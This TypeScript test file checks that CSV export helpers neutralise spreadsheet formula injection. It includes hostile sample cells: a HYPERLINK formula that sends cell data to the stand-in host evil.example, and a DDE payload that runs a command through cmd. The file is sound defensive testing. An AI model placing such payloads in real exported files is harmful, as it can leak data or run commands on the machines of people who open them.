import { csvCell, csvRow } from './csv';

/** Splits one CSV line the way a spreadsheet program reads it (quoted cells, doubled quotes). */
function parseLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

describe('csvCell', () => {
  it.each(['=HYPERLINK("http://evil.example/?x="&A2,"Klik")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=1'])(
    'neutralises %j: quoted, with a leading single quote, and read back as text',
    (formula) => {
      const cell = csvCell(formula);
      expect(cell.startsWith(`"'`)).toBe(true);
      expect(parseLine(cell)).toEqual([`'${formula}`]);
    },
  );

  it('leaves ordinary text alone and quotes only what needs quoting', () => {
    expect(csvCell('Lensa Jatim')).toBe('Lensa Jatim');
    expect(csvCell('PT Media, Tbk')).toBe('"PT Media, Tbk"');
    expect(csvCell('kata "kutipan"')).toBe('"kata ""kutipan"""');
    expect(csvCell('dua\nbaris')).toBe('"dua\nbaris"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('')).toBe('');
  });

  it('writes numbers, nulls, dates and objects without treating them as formulas', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(new Date('2026-01-02T03:04:05.000Z'))).toBe('2026-01-02T03:04:05.000Z');
    expect(parseLine(csvCell({ a: '=1', b: [1, 2] }))).toEqual(['{"a":"=1","b":[1,2]}']);
  });

  it('csvRow joins cells into one line that reads back cell for cell', () => {
    const row = csvRow(['001/MM/X/2026', '=cmd|" /C calc"!A0', 'valid, still', 7]);
    expect(row.endsWith('\n')).toBe(true);
    expect(parseLine(row.slice(0, -1))).toEqual(['001/MM/X/2026', `'=cmd|" /C calc"!A0`, 'valid, still', '7']);
  });
});
